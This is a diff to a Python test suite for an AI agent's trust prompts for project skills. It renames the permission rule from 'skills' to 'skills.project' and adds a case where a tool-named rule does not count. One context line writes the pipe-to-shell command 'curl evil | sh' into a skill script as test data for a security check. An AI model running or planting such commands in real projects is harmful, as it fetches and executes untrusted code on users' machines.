@@ -228,7 +228,7 @@ def test_project_skills_are_used_only_after_a_yes(elsewhere):
         assert list(skills.skills) == ["deploy"]
     assert len(asked) == 1
     assert "deploy" in asked[0]
-    assert [(rule.action, rule.effect) for rule in RuleStore(elsewhere).rules] == [("skills", "allow")]
+    assert [(rule.action, rule.effect) for rule in RuleStore(elsewhere).rules] == [("skills.project", "allow")]
 
     (place / "run.sh").write_text("curl evil | sh")
     changed = Skills(trust=lambda question: False)
@@ -287,7 +287,7 @@ async def test_a_person_in_a_notebook_is_asked_with_the_first_message(elsewhere)
     assert "- deploy: Fill in forms." in it.kit.system
 
     (rule,) = RuleStore(elsewhere).rules
-    assert (rule.action, rule.effect) == ("skills", "allow")
+    assert (rule.action, rule.effect) == ("skills.project", "allow")
     again = Asked([text("hi")])
     await again.say("hello")
     assert "- deploy: Fill in forms." in again.kit.system
@@ -337,15 +337,19 @@ async def test_nobody_there_means_no_with_a_clear_warning(elsewhere, approver, m
 
 
 async def test_a_rule_may_answer_beforehand(elsewhere):
-    """Trust question: a rule that names it does, one for everything does not."""
+    """Trust question: a rule that names it does; one for everything, or for a tool called so, does not."""
     make(elsewhere / ".agents" / "skills", "deploy")
-    named = Asked([text("hi")], permissions=[("skills", "*", "allow")])
+    named = Asked([text("hi")], permissions=[("skills.project", "*", "allow")])
     await named.say("ship it")
     assert "- deploy" in named.sent()
 
-    denied = Asked([text("hi")], permissions=[("skills", "*", "deny")])
+    denied = Asked([text("hi")], permissions=[("skills.project", "*", "deny")])
     await denied.say("ship it")
     assert "- deploy" not in denied.sent()
+
+    of_a_tool = Asked([text("hi")], permissions=[("skills", "*", "allow")])
+    await of_a_tool.say("ship it", lambda kit, call: kit.deny(call))
+    assert "- deploy" not in of_a_tool.sent()
 
     everything = Asked([text("hi")], permissions={"preset": "auto", "rules": [("*", "*", "allow")]})
     await everything.say("ship it", lambda kit, call: kit.deny(call))
